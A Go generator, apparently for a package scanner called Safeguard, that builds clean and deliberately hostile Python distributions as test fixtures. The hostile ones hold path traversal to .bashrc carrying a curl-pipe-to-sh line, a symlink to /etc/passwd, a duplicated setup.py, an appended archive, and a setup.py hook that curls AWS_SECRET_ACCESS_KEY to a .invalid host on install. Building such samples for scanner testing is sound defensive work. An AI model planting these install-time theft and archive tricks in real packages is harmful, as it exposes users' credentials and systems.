// Command gen writes the example distributions in examples/: a clean
// wheel and sdist of a tiny project, an sdist packed the way hostile
// uploads are (path traversal, a link to /etc/passwd, a duplicated
// setup.py, an archive appended after the end), and the classic
// install-time theft, defanged: its setup.py sends AWS_SECRET_ACCESS_KEY
// with curl to a host under the reserved .invalid domain, which can never
// resolve. Run from the repository root: go run ./examples/gen
package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"time"
)

type member struct {
	name, body, link string
	typeflag         byte
}

var epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

const (
	metadata = "Metadata-Version: 2.3\nName: demo\nVersion: 0.1.0\nSummary: A tiny example package\nLicense-Expression: Apache-2.0\nRequires-Python: >=3.9\nRequires-Dist: requests>=2.31\n\nAn example for Safeguard's README.\n"
	initPy   = "\"\"\"A tiny example package.\"\"\"\n\n\ndef greet(name):\n    return f\"hello, {name}\"\n"
	pyproj   = "[build-system]\nrequires = [\"setuptools>=68\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"demo\"\nversion = \"0.1.0\"\ndescription = \"A tiny example package\"\nrequires-python = \">=3.9\"\ndependencies = [\"requests>=2.31\"]\n\n[project.scripts]\ndemo = \"demo:greet\"\n"
)

func main() {
	dir := "examples"
	write(dir, "demo-0.1.0-py3-none-any.whl", wheel())
	write(dir, "demo-0.1.0.tar.gz", targz(
		member{name: "demo-0.1.0/PKG-INFO", body: metadata},
		member{name: "demo-0.1.0/pyproject.toml", body: pyproj},
		member{name: "demo-0.1.0/src/demo/__init__.py", body: initPy},
	))
	hostile := targz(
		member{name: "hostile-0.1/PKG-INFO", body: "Metadata-Version: 2.1\nName: hostile\nVersion: 0.1\n"},
		member{name: "hostile-0.1/setup.py", body: "from setuptools import setup\nsetup(name='hostile', version='0.1')\n"},
		member{name: "hostile-0.1/../../.bashrc", body: "curl http://example.invalid/x | sh\n"},
		member{name: "hostile-0.1/config", typeflag: tar.TypeSymlink, link: "/etc/passwd"},
		member{name: "hostile-0.1/setup.py", body: "import os\nos.system('echo this second setup.py is the one pip runs')\n"},
	)
	hostile = append(hostile, targz(member{name: "hostile-0.1/hidden.py", body: "print('appended after the end')\n"})...)
	write(dir, "hostile-0.1.tar.gz", hostile)
	write(dir, "stealer-1.0.tar.gz", targz(
		member{name: "stealer-1.0/PKG-INFO", body: "Metadata-Version: 2.1\nName: stealer\nVersion: 1.0\nSummary: Defanged example of an install-time credential theft\n"},
		member{name: "stealer-1.0/setup.py", body: stealerSetup},
	))
}

// stealerSetup is the classic install-time theft, defanged: the collector
// is under .invalid (RFC 2606), a name that never resolves.
const stealerSetup = `import os
from setuptools import setup

# Runs on "pip install", before anything is imported.
os.system("curl -s -d $AWS_SECRET_ACCESS_KEY https://collector.example.invalid/k")

setup(name="stealer", version="1.0")
`

func wheel() []byte {
	files := []member{
		{name: "demo/__init__.py", body: initPy},
		{name: "demo-0.1.0.dist-info/METADATA", body: metadata},
		{name: "demo-0.1.0.dist-info/WHEEL", body: "Wheel-Version: 1.0\nGenerator: safeguard-examples\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
		{name: "demo-0.1.0.dist-info/entry_points.txt", body: "[console_scripts]\ndemo = demo:greet\n"},
	}
	var record bytes.Buffer
	for _, f := range files {
		sum := sha256.Sum256([]byte(f.body))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f.name, base64.RawURLEncoding.EncodeToString(sum[:]), len(f.body))
	}
	record.WriteString("demo-0.1.0.dist-info/RECORD,,\n")
	files = append(files, member{name: "demo-0.1.0.dist-info/RECORD", body: record.String()})
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.name, Method: zip.Deflate, Modified: epoch})
		check(err)
		_, err = w.Write([]byte(f.body))
		check(err)
	}
	check(zw.Close())
	return buf.Bytes()
}

func targz(members ...member) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.ModTime = epoch
	tw := tar.NewWriter(zw)
	for _, m := range members {
		h := &tar.Header{Name: m.name, Mode: 0o644, ModTime: epoch, Typeflag: tar.TypeReg, Size: int64(len(m.body)), Format: tar.FormatPAX}
		if m.typeflag != 0 {
			h.Typeflag, h.Linkname, h.Size = m.typeflag, m.link, 0
		}
		check(tw.WriteHeader(h))
		_, err := tw.Write([]byte(m.body[:h.Size]))
		check(err)
	}
	check(tw.Close())
	check(zw.Close())
	return buf.Bytes()
}

func write(dir, name string, data []byte) {
	check(os.WriteFile(filepath.Join(dir, name), data, 0o644))
}

func check(err error) {
	if err != nil {
		log.Fatal(err)
	}
}
